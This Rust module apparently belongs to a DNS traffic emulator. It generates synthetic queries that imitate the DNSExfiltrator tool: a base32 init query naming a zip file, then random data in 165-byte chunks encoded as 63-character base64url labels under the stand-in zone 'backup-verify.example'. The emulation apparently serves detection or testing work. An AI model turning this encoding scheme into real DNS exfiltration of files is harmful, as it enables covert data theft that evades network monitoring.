//! DNSExfiltrator: an encrypted archive in base64url labels of 63 behind a chunk number, TXT, as fast as answers come.

use super::encode::{base32, base64url, labels};
use super::tape::{Answer, Tape};
use crate::emulate::message::rtype;

const ZONE: &str = "backup-verify.example";

pub(super) fn session(tape: &mut Tape) {
    let bytes = 12_000;
    let piece = 165;
    let file = format!("report-2026.zip|{}", bytes / piece);
    tape.moves(
        format!("init.{}.{ZONE}", base32(file.as_bytes())),
        rtype::TXT,
        &Answer::txt("OK", 1),
        file.len(),
    );
    let data = tape.random.bytes(bytes);
    for (index, piece) in data.chunks(piece).enumerate() {
        tape.pause(0.07, 0.3);
        let name = format!("{index}.{}.{ZONE}", labels(&base64url(piece), 63));
        tape.moves(name, rtype::TXT, &Answer::txt(index.to_string(), 1), piece.len());
    }
}
